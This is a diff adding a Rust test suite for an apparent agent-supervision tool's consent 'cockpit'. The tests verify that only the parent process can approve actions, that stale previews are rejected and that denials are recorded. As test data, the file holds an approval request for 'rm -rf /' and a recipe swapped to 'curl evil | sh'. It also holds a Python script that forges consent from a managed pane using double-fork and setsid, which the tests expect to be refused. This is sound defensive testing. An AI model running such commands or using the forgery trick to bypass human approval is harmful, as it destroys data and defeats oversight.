@@ -1,0 +1,433 @@
+//! The cockpit channel over the real socket (DESIGN §7, MISSIONS.md §2.6 and §7): who may
+//! grant consent, stale digests, durable consent records, and what each approved action
+//! does. The test process is the server's parent, so it is a legitimate peer; forgeries
+//! come from processes the server started.
+
+use std::path::Path;
+
+use nagi_tests::*;
+use serde_json::{Value, json};
+
+fn toml_string(text: &str) -> String {
+    serde_json::to_string(text).unwrap()
+}
+
+fn configure(env: &TestEnv, script: &Value) -> std::path::PathBuf {
+    std::fs::create_dir_all(&env.config_dir).unwrap();
+    let log = env.home().join("fake.log");
+    let fake_env = format!(
+        "NAGI_FAKE_SCRIPT = {}, NAGI_FAKE_LOG = {}",
+        toml_string(&script.to_string()),
+        toml_string(log.to_str().unwrap())
+    );
+    let mut config = String::new();
+    for (section, binary) in [
+        ("codex", "fake_codex"),
+        ("claude_code", "fake_claude"),
+        ("acp", "fake_acp"),
+    ] {
+        config.push_str(&format!(
+            "[providers.{section}]\ncommand = [{}]\nenv = {{ {fake_env} }}\n\n",
+            toml_string(test_binary(binary).to_str().unwrap())
+        ));
+    }
+    std::fs::write(env.config_dir.join("config.toml"), config).unwrap();
+    log
+}
+
+fn log_entries(path: &Path) -> Vec<Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|line| serde_json::from_str(line).ok())
+        .collect()
+}
+
+fn consent_rows(env: &TestEnv) -> Vec<(String, String)> {
+    let connection = rusqlite::Connection::open_with_flags(
+        env.database_path(),
+        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
+    )
+    .unwrap();
+    let mut statement = connection
+        .prepare("SELECT subject, decision FROM consents ORDER BY at_millis")
+        .unwrap();
+    statement
+        .query_map([], |row| Ok((row.get(0)?, row.get(1)?)))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect()
+}
+
+fn preview(env: &TestEnv, action: &Value) -> Value {
+    env.ok("cockpit.preview", json!({"action": action}))["preview"].clone()
+}
+
+fn decide(env: &TestEnv, action: &Value, digest: &Value, decision: &str) -> Value {
+    env.call(
+        "cockpit.decide",
+        json!({"action": action, "shown_digest": digest, "decision": decision}),
+    )
+}
+
+struct Session {
+    env: TestEnv,
+    repo: TestRepo,
+    log: std::path::PathBuf,
+}
+
+fn session(script: Value, checks: Value) -> Session {
+    let mut env = TestEnv::new();
+    let log = configure(&env, &script);
+    env.start_server();
+    let repo = TestRepo::new();
+    env.ok("mission.create", create_params("m1", &repo.path_text()));
+    env.ok(
+        "mission.configure",
+        json!({"mission_id": "m1", "checks": checks}),
+    );
+    Session { env, repo, log }
+}
+
+fn command_check() -> Value {
+    json!([{"kind": "command", "id": "unit", "program": "test", "args": ["-f", "README.md"], "cwd": ".", "relevant_paths": [],
+            "required_artifacts": [], "required": true, "covers": [0, 1]}])
+}
+
+#[test]
+fn the_test_process_may_grant_consent() {
+    let s = session(json!([{"text": "x"}]), command_check());
+    let hello = s.env.ok("cockpit.hello", json!({}));
+    assert_eq!(hello["consent_allowed"], true, "{hello}");
+}
+
+#[test]
+fn answering_a_question_in_the_cockpit_lets_the_provider_continue() {
+    let s = session(
+        json!([{"ask": {"question": "Which database?", "header": "DB", "options": ["sqlite", "postgres"], "multiple": false}}, {"text": "thanks"}]),
+        command_check(),
+    );
+    s.env.ok("mission.start", json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed", "execute_declared_checks": true}));
+    wait_for_mission(&s.env, "m1", "a question", |mission| {
+        mission["unresolved_attention_count"] == 1
+    });
+    let item = s.env.ok("attention.list", json!({"mission_id": "m1"}))["items"][0].clone();
+    let question_id = item["questions"][0]["id"].as_str().unwrap().to_string();
+    let action = json!({"kind": "respond", "mission_id": "m1", "run_id": "r1", "attention_id": item["attention_id"],
+                        "decision": "answer", "answers": {question_id.clone(): ["sqlite"]}});
+    // An invalid answer is refused at preview time, before anything is written.
+    let wrong = json!({"kind": "respond", "mission_id": "m1", "run_id": "r1", "attention_id": item["attention_id"], "decision": "approve_once"});
+    assert_eq!(
+        s.env
+            .error_code("cockpit.preview", json!({"action": wrong})),
+        "invalid_response"
+    );
+    let shown = preview(&s.env, &action);
+    assert!(
+        shown["lines"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|line| line.as_str().unwrap().contains("Which database?")),
+        "{shown}"
+    );
+    let decided = decide(&s.env, &action, &shown["digest"], "approve");
+    assert_eq!(decided["result"]["type"], "cockpit_decided", "{decided}");
+    let mission = wait_for_mission(&s.env, "m1", "ready after the answer", |mission| {
+        mission["status"] == "ready_to_close"
+    });
+    assert_eq!(mission["unresolved_attention_count"], 0);
+    let answered = s.env.ok(
+        "attention.get",
+        json!({"attention_id": item["attention_id"]}),
+    )["item"]
+        .clone();
+    assert_eq!(answered["state"]["state"], "resolved");
+    assert_eq!(answered["state"]["actor"], "local-user");
+    assert_eq!(answered["delivery"]["state"], "acknowledged");
+    assert!(
+        log_entries(&s.log)
+            .iter()
+            .any(|entry| entry["event"] == "answers" && entry.to_string().contains("sqlite"))
+    );
+    assert_eq!(
+        consent_rows(&s.env),
+        vec![("respond".to_string(), "approve".to_string())]
+    );
+    // The raw answer text is not in the store: not in any event, not in the consent record.
+    let connection = rusqlite::Connection::open_with_flags(
+        s.env.database_path(),
+        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
+    )
+    .unwrap();
+    let payloads: Vec<String> = connection
+        .prepare("SELECT payload FROM events UNION ALL SELECT detail FROM consents")
+        .unwrap()
+        .query_map([], |row| row.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    let leaked: Vec<&String> = payloads
+        .iter()
+        .filter(|payload| payload.contains("[\"sqlite\"]") || payload.contains("your answer"))
+        .collect();
+    assert!(leaked.is_empty(), "answers are never persisted: {leaked:?}");
+}
+
+#[test]
+fn denying_in_the_cockpit_delivers_nothing_and_records_the_refusal() {
+    let s = session(json!([{"approve_command": "rm -rf /"}]), command_check());
+    s.env.ok(
+        "mission.start",
+        json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed"}),
+    );
+    wait_for_mission(&s.env, "m1", "an approval", |mission| {
+        mission["unresolved_attention_count"] == 1
+    });
+    let item = s.env.ok("attention.list", json!({"mission_id": "m1"}))["items"][0].clone();
+    let action = json!({"kind": "respond", "mission_id": "m1", "run_id": "r1", "attention_id": item["attention_id"], "decision": "approve_once"});
+    let shown = preview(&s.env, &action);
+    let decided = decide(&s.env, &action, &shown["digest"], "deny");
+    assert_eq!(decided["result"]["outcome"]["decision"], "deny");
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    assert!(
+        log_entries(&s.log)
+            .iter()
+            .all(|entry| entry["event"] != "decision"),
+        "nothing reached the provider"
+    );
+    let still = s.env.ok(
+        "attention.get",
+        json!({"attention_id": item["attention_id"]}),
+    )["item"]
+        .clone();
+    assert_eq!(still["state"]["state"], "open");
+    assert_eq!(
+        consent_rows(&s.env),
+        vec![("respond".to_string(), "deny".to_string())]
+    );
+    // Denying the request itself is a decision delivered to the provider.
+    let deny_request = json!({"kind": "respond", "mission_id": "m1", "run_id": "r1", "attention_id": item["attention_id"], "decision": "deny"});
+    let shown = preview(&s.env, &deny_request);
+    decide(&s.env, &deny_request, &shown["digest"], "approve");
+    wait_for_mission(
+        &s.env,
+        "m1",
+        "the turn went on after the denial",
+        |mission| mission["status"] == "review_required" || mission["status"] == "ready_to_close",
+    );
+    let decisions: Vec<Value> = log_entries(&s.log)
+        .into_iter()
+        .filter(|entry| entry["event"] == "decision")
+        .collect();
+    assert_eq!(decisions.len(), 1);
+    assert!(
+        decisions[0].to_string().contains("decline") || decisions[0].to_string().contains("deny"),
+        "{decisions:?}"
+    );
+}
+
+#[test]
+fn manual_evidence_from_a_listed_reviewer_passes_the_check() {
+    let checks = json!([{"kind": "manual", "id": "review", "reviewers": ["alice"], "required": true, "covers": [0, 1]}]);
+    let s = session(json!([{"text": "done"}]), checks);
+    s.env.ok(
+        "mission.start",
+        json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed"}),
+    );
+    wait_for_mission(&s.env, "m1", "review_required", |mission| {
+        mission["status"] == "review_required" && mission["run"]["live"] == false
+    });
+    let wrong = json!({"kind": "manual_evidence", "mission_id": "m1", "check_id": "review", "reviewer": "mallory", "reason": "looks fine"});
+    let shown = preview(&s.env, &wrong);
+    assert_eq!(
+        decide(&s.env, &wrong, &shown["digest"], "approve")["error"]["code"],
+        "consent_forbidden"
+    );
+    let overridden = json!({"kind": "manual_evidence", "mission_id": "m1", "check_id": "review", "reviewer": "alice", "reason": "trust me", "is_override": true});
+    let shown = preview(&s.env, &overridden);
+    assert_eq!(
+        decide(&s.env, &overridden, &shown["digest"], "approve")["error"]["code"],
+        "consent_forbidden",
+        "override not allowed"
+    );
+    let action = json!({"kind": "manual_evidence", "mission_id": "m1", "check_id": "review", "reviewer": "alice", "reason": "I read the diff"});
+    let shown = preview(&s.env, &action);
+    let decided = decide(&s.env, &action, &shown["digest"], "approve");
+    assert_eq!(decided["result"]["type"], "cockpit_decided", "{decided}");
+    let mission = wait_for_mission(&s.env, "m1", "ready_to_close", |mission| {
+        mission["status"] == "ready_to_close"
+    });
+    let evidence = &mission["evidence"][0];
+    assert_eq!(evidence["kind"], "manual");
+    assert_eq!(evidence["reviewer"], "alice");
+    assert_eq!(evidence["manual_override"], false);
+    // A change to the workspace between preview and approval makes the consent stale.
+    let s2 = session(
+        json!([{"text": "done"}]),
+        json!([{"kind": "manual", "id": "review", "reviewers": ["alice"], "required": true, "covers": [0, 1]}]),
+    );
+    s2.env.ok(
+        "mission.start",
+        json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed"}),
+    );
+    wait_for_mission(&s2.env, "m1", "review_required", |mission| {
+        mission["status"] == "review_required" && mission["run"]["live"] == false
+    });
+    let shown = preview(&s2.env, &action);
+    s2.repo.write("src/lib.rs", "changed after the review\n");
+    let before = s2.env.store_fingerprint();
+    assert_eq!(
+        decide(&s2.env, &action, &shown["digest"], "approve")["error"]["code"],
+        "consent_stale"
+    );
+    assert_eq!(
+        s2.env.store_fingerprint(),
+        before,
+        "a stale consent writes nothing"
+    );
+}
+
+#[test]
+fn an_acp_agent_with_write_scope_writes_in_the_worktree() {
+    let s = session(
+        json!([{"write_file": {"path": "written-by-acp.txt", "content": "hello from the agent\n"}}, {"text": "wrote it"}]),
+        command_check(),
+    );
+    let read_only =
+        json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "acp"});
+    assert_eq!(
+        s.env
+            .error_code("cockpit.preview", json!({"action": read_only})),
+        "invalid_params",
+        "ACP needs write scope"
+    );
+    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "acp", "write_scope": true, "execute_declared_checks": true});
+    let shown = preview(&s.env, &action);
+    let lines = shown["lines"].to_string();
+    assert!(lines.contains("MAY CHANGE FILES"), "{lines}");
+    assert_eq!(shown["risk"], "high");
+    let decided = decide(&s.env, &action, &shown["digest"], "approve");
+    assert_eq!(decided["result"]["type"], "cockpit_decided", "{decided}");
+    let mission = wait_for_mission(&s.env, "m1", "the ACP run's end", |mission| {
+        mission["run"]["live"] == false
+            && mission["status"] != "preparing"
+            && mission["status"] != "active"
+    });
+    assert_eq!(mission["run"]["enforcement"], "workspace_write");
+    let written = std::fs::read_to_string(s.repo.path.join("written-by-acp.txt"))
+        .expect("the agent wrote the file");
+    assert_eq!(written, "hello from the agent\n");
+    assert_eq!(
+        mission["unresolved_attention_count"], 0,
+        "a write-scope run raises no read-only warning"
+    );
+}
+
+#[test]
+fn a_denied_start_starts_nothing() {
+    let s = session(json!([{"text": "x"}]), command_check());
+    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "codex", "write_scope": true});
+    let shown = preview(&s.env, &action);
+    let decided = decide(&s.env, &action, &shown["digest"], "deny");
+    assert_eq!(
+        decided["result"]["outcome"]["summary"],
+        "denied; nothing was done"
+    );
+    let mission = s.env.ok("mission.get", json!({"mission_id": "m1"}))["mission"].clone();
+    assert_eq!(mission["status"], "draft");
+    assert!(log_entries(&s.log).is_empty(), "no provider started");
+}
+
+#[test]
+fn a_changed_recipe_makes_the_consent_stale() {
+    let s = session(json!([{"text": "x"}]), command_check());
+    s.repo.write(
+        ".nagi/project.toml",
+        "schema = 1\n[setup]\ncommand = [\"true\"]\n",
+    );
+    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "codex", "execute_project_recipe": true});
+    let shown = preview(&s.env, &action);
+    assert_eq!(shown["recipe"]["setup"], json!(["true"]));
+    s.repo.write(
+        ".nagi/project.toml",
+        "schema = 1\n[setup]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
+    );
+    let before = s.env.store_fingerprint();
+    assert_eq!(
+        decide(&s.env, &action, &shown["digest"], "approve")["error"]["code"],
+        "consent_stale"
+    );
+    assert_eq!(s.env.store_fingerprint(), before);
+}
+
+/// A pane that runs `script` with python3, which talks to the socket from inside the pane.
+fn forge_from_pane(env: &TestEnv, script: &str) -> String {
+    let out = env.root().join(format!("forge-{}.out", script.len()));
+    let code = format!(
+        "import json, os, socket, sys\n\
+         s = socket.socket(socket.AF_UNIX); s.connect(os.environ['NAGI_SOCKET_PATH']); f = s.makefile('rwb')\n\
+         def call(method, params):\n    f.write((json.dumps({{'id': 'x', 'method': method, 'params': params}}) + '\\n').encode()); f.flush(); return f.readline().decode()\n\
+         {script}\n"
+    );
+    let script_path = env.root().join(format!("forge-{}.py", script.len()));
+    std::fs::write(&script_path, code).unwrap();
+    let created = env.ok(
+        "workspace.create",
+        json!({"command": ["python3", script_path.to_str().unwrap(), out.to_str().unwrap()], "label": "forgery"}),
+    );
+    assert!(created["root_pane"]["pane_id"].is_string());
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
+    loop {
+        if let Ok(text) = std::fs::read_to_string(&out)
+            && text.contains("DONE")
+        {
+            return text;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the forging pane never finished"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+}
+
+#[test]
+fn a_process_in_a_managed_pane_cannot_consent_even_after_double_forking_and_setsid() {
+    if std::process::Command::new("python3")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        eprintln!("skipped: python3 is needed to forge from a pane");
+        return;
+    }
+    let s = session(json!([{"text": "x"}]), command_check());
+    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "codex", "write_scope": true});
+    let direct = forge_from_pane(
+        &s.env,
+        &format!(
+            "action = json.loads(r'''{action}''')\nout = open(sys.argv[1], 'w'); out.write(call('cockpit.hello', {{}})); out.write(call('cockpit.preview', {{'action': action}})); \
+             out.write(call('cockpit.decide', {{'action': action, 'shown_digest': '0'*64, 'decision': 'approve'}})); out.write('DONE'); out.close()"
+        ),
+    );
+    assert!(direct.contains("\"consent_allowed\":false"), "{direct}");
+    assert_eq!(direct.matches("consent_forbidden").count(), 2, "{direct}");
+    let detached = forge_from_pane(
+        &s.env,
+        &format!(
+            "action = json.loads(r'''{action}''')\npid = os.fork()\nif pid: os.waitpid(pid, 0); sys.exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n\
+             out = open(sys.argv[1], 'w'); out.write(call('cockpit.decide', {{'action': action, 'shown_digest': '0'*64, 'decision': 'approve'}})); out.write('DONE'); out.close()"
+        ),
+    );
+    assert!(detached.contains("consent_forbidden"), "{detached}");
+    assert!(
+        detached.contains("started"),
+        "the refusal says why: {detached}"
+    );
+    assert_eq!(
+        s.env.ok("mission.get", json!({"mission_id": "m1"}))["mission"]["status"],
+        "draft"
+    );
+    assert!(consent_rows(&s.env).is_empty());
+}
